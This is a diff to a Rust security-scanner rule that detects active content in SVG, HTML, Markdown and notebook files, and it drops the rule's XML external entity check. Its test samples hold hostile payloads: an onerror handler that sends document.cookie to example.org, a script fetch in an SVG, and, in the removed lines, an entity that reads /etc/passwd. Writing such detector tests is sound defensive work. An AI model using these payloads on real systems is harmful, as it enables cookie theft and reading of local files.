@@ -10,7 +10,7 @@ crate::rule! {
     /// # What it detects
     ///
     /// Scripts and event handlers in SVG pictures; scripts in pages, cards and notebooks that send something away or make a notebook
-    /// run commands; XML that fetches entities from files or addresses. Ordinary scripts of pages and plots are not reported.
+    /// run commands. Ordinary scripts of pages and plots are not reported.
     ///
     /// # Why it matters
     ///
@@ -27,7 +27,6 @@ crate::rule! {
     /// # References
     ///
     /// - <https://cwe.mitre.org/data/definitions/79.html>
-    /// - <https://cwe.mitre.org/data/definitions/611.html>
     pub(crate) ActiveContent {
         id: "WH-COD-012",
         slug: "active-content",
@@ -35,7 +34,7 @@ crate::rule! {
         severity: High,
         confidence: Medium,
         formats: [Xml, Html, Markdown, Notebook],
-        cwe: [79, 611],
+        cwe: [79],
         owasp: ["LLM03"],
         atlas: [],
     }
@@ -48,7 +47,6 @@ impl Rule for ActiveContent {
         let ending = cx.name().rsplit('.').next().unwrap_or_default().to_ascii_lowercase();
         let (picture, page) =
             (ending == "svg", is(Format::Html) || is(Format::Markdown) || is(Format::Notebook));
-        let xml = is(Format::Xml);
         for noted in &facts.noted {
             let text = noted.text.to_ascii_lowercase();
             let (what, severity) = match noted.kind {
@@ -58,13 +56,6 @@ impl Rule for ActiveContent {
                 }
                 "active content" if is(Format::Markdown) && text.contains("<script") => {
                     ("a document holds a script", Severity::Low)
-                }
-                "external entity"
-                    if xml
-                        && (text.contains(" system ") || text.contains(" public "))
-                        && !is_doctype_of_svg(&text) =>
-                {
-                    ("an entity fetches another file", Severity::High)
                 }
                 _ => continue,
             };
@@ -88,17 +79,11 @@ fn steals(text: &str) -> bool {
     any(TAKES) && any(SENDS) || text.contains("kernel.execute") && any(RUNS)
 }
 
-/// The declaration that drawing programs write.
-fn is_doctype_of_svg(text: &str) -> bool {
-    text.contains("-//w3c//dtd svg") && !text.contains("file:")
-}
-
 crate::samples! {
     ActiveContent,
     bad: {
         "a picture with a script" => [("logo.svg", br#"<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('https://example.org')</script></svg>"#.to_vec())],
         "a card that sends cookies" => [("README.md", b"# Model\n<img src=x onerror=\"fetch('https://example.org/?c='+document.cookie)\">\n".to_vec())],
-        "an entity of a file" => [("model.pmml", br#"<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>"#.to_vec())],
     },
     ok: {
         "a picture" => [("logo.svg", br#"<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>"#.to_vec())],
